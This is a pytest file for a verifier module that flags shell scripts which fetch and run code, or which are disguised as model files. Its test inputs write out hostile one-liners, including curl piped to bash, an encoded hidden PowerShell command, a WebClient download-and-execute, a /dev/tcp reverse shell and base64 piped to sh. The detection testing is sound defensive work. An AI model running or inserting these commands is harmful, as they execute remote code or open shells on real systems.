"""Scripts: known by name or beginning, searched, and never taken for understood."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.builders.inspections import inspected, probe, rules_of, states_of
from verifier.formats import FormatModule, candidates
from verifier.formats import script as module
from verifier.records import CoverageState

MODULE: FormatModule = module
GAP = [CoverageState.PARTIAL]


@pytest.mark.parametrize(
    ("name", "text", "rules"),
    [
        ("run.sh", "#!/bin/sh\npython train.py --x 1\n", []),
        ("run.sh", "# curl https://x | sh\ntrue\n", []),
        ("run", "#!/bin/bash\ntrue\n", []),
        ("run.sh", "wget https://x/model.bin\n", []),
        ("run.sh", "curl -s https://x |\\\n bash\n", ["script-fetches-and-runs"]),
        ("run.bat", "powershell -nop -w hidden -enc AAAA\n", ["script-fetches-and-runs"]),
        ("run.ps1", "iex (New-Object Net.WebClient).DownloadString('https://x')\n", ["script-fetches-and-runs"]),
        ("run.sh", "bash -i >& /dev/tcp/127.0.0.1/9 0>&1\n", ["script-fetches-and-runs"]),
        ("run.sh", "echo eA== | base64 -d | sh\n", ["script-fetches-and-runs"]),
        ("model.bin", "#!/bin/sh\ntrue\n", ["script-disguised"]),
        ("model.safetensors", "#!/usr/bin/env bash\ntrue\n", ["script-disguised"]),
    ],
)
def test_scripts_are_searched(name: str, text: str, rules: list[str]) -> None:
    assert MODULE in candidates(probe(text.encode(), name))
    records = inspected(MODULE, text.encode(), name)
    assert (rules_of(records), states_of(records)) == (rules, GAP)


def test_python_and_prose_are_no_scripts() -> None:
    assert MODULE not in candidates(probe(b"#!/usr/bin/env python3\n", "model.bin"))
    assert MODULE not in candidates(probe(b"# A title\n", "README.md"))
    assert states_of(inspected(MODULE, b"\0", "run.sh")) == [CoverageState.UNKNOWN]
    assert states_of(inspected(MODULE, b"", "run.sh")) == [CoverageState.INSPECTED]


@settings(max_examples=50, deadline=None)
@given(st.text(max_size=80))
def test_any_text_ends_in_coverage(text: str) -> None:
    assert states_of(inspected(MODULE, text.encode("utf-8", "replace"), "a.sh"))
